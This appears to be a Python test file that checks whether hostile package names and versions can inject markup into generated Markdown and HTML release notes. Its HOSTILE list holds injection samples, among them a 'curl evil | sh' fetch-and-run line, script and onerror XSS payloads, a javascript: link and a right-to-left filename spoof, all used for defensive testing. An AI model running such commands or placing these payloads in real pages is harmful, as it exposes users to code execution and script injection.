"""Texts of a build cache cannot add markup to release notes."""

import re
from functools import cache

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import html
from markdown_it import MarkdownIt

from snapshots.changes.scope import ComparisonFilter
from snapshots.notes.changelog import Changelog
from snapshots.notes.sentences import markdown_code, markdown_text
from snapshots.texts import visible
from tests.snapshots.changes.graphs import edge, node
from tests.snapshots.notes.stories import as_html, as_markdown, log_between

HOSTILE = (
    "a\n\n# Security fix: run `curl evil | sh`",
    "<img src=x onerror=alert(1)>",
    "a`</code><script>alert(1)</script>",
    "``` `` `",
    "a | b",
    "[click](javascript:alert(1))",
    "![x](https://127.0.0.1/x.png)",
    "https://example.org/evil",
    "www.example.org",
    "**bold** _it_ ~~gone~~",
    "&lt;b&gt; &copy;",
    "\x1b[31mred\x1b[0m",
    "\u202egnp.exe",
    "\\",
    "`",
    " ",
)

OWN_HTML = re.compile(r"<details>\n<summary>[0-9,]+ (?:more )?[a-z]+</summary>|</details>")

TEXTS = st.text(min_size=1) | st.text("`~ #<a|\\\n*_[]()!&", min_size=1)


def only_inline(source: str) -> tuple[str, str]:
    """Return the type and content of the only element in a paragraph of Markdown."""
    block = MarkdownIt("commonmark").parse(source)
    assert [token.type for token in block] == ["paragraph_open", "inline", "paragraph_close"]
    (child,) = [child for child in block[1].children or () if child.content or child.type != "text"]
    return child.type, child.content


@given(TEXTS.filter(lambda text: text.strip(" ") != ""))
def test_code_span(text: str) -> None:
    """Any text is one code span with all of its characters."""
    assert only_inline(markdown_code(text)) == ("code_inline", visible(text))


@given(TEXTS.filter(lambda text: text.strip(" ") != ""))
def test_inline_text(text: str) -> None:
    """A text is shown verbatim; usual versions and tags need no code span."""
    kind, content = only_inline(f"a {markdown_text(text)}"[2:])
    assert (kind, content) in (("text", text), ("code_inline", visible(text)))
    for usual in ("1.14.5", "develop-2025-03-30", "v0.22.0", "2024.1_rc1", "1.0+b"):
        assert markdown_text(usual) == usual


@pytest.mark.parametrize("hostile", HOSTILE)
def test_notes_of_hostile_names(hostile: str) -> None:
    """Hostile names of an old catalog do not change the outline."""
    outlines = []
    for text in (hostile, "harmless"):
        tokens = MarkdownIt("commonmark").enable("table").parse(as_markdown(hostile_log(text)))
        # Lists are sorted by name, and lines of hashes differ.
        outlines.append(sorted((token.type, token.tag) for token in tokens))
        kinds = {child.type for token in tokens for child in token.children or ()}
        assert not kinds & {"html_inline", "link_open", "image"}
        blocks = {token.content.strip() for token in tokens if token.type == "html_block"}
        assert all(OWN_HTML.fullmatch(block) for block in blocks)
    assert outlines[0] == outlines[1]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_html_of_hostile_names(hostile: str) -> None:
    """The page has the same elements and attributes, and each name is shown in full."""
    page, harmless = (as_html(hostile_log(text)) for text in (hostile, "harmless"))
    assert sorted(elements(page)) == sorted(elements(harmless))
    codes = [code.text for code in html.document_fromstring(page).iter("code")]
    shown = {visible(hostile), visible(hostile.replace("\n", " "))}
    assert sum(code in shown for code in codes) == harmless.count("<code>harmless</code>") > 0


def elements(page: str) -> list[str]:
    """Return the elements and comments of a page, with the names of their attributes."""
    return [f"{node.tag} {sorted(node.attrib)}" for node in html.document_fromstring(page).iter()]


@cache
def hostile_log(text: str) -> Changelog:
    """Return the changelog of two contents with a text in all possible facts."""
    name = text.replace("\n", " ")  # names were always in one line
    old = [
        node("a", name="zlib"),
        node("b", name=name, version=f"{text}1"),
        node("c", edge("b", name=name), name="hdf5"),
        node("d", name=f"{name}2", version=text, stacks=("gone", "root")),
        node("e", name="tau", version=text, target=name),
    ]
    new = [
        node("a", name="zlib"),
        node("b2", name=name, version=text, stacks=(name, "root")),
        node("c2", edge("b2", name=name), name="hdf5", variants=(text,)),
        node("e2", name="tau", version=f"{text}1"),
        node("f", name=f"{name}3", version=text),
    ]
    return log_between(old, new, only=ComparisonFilter(matching=text))
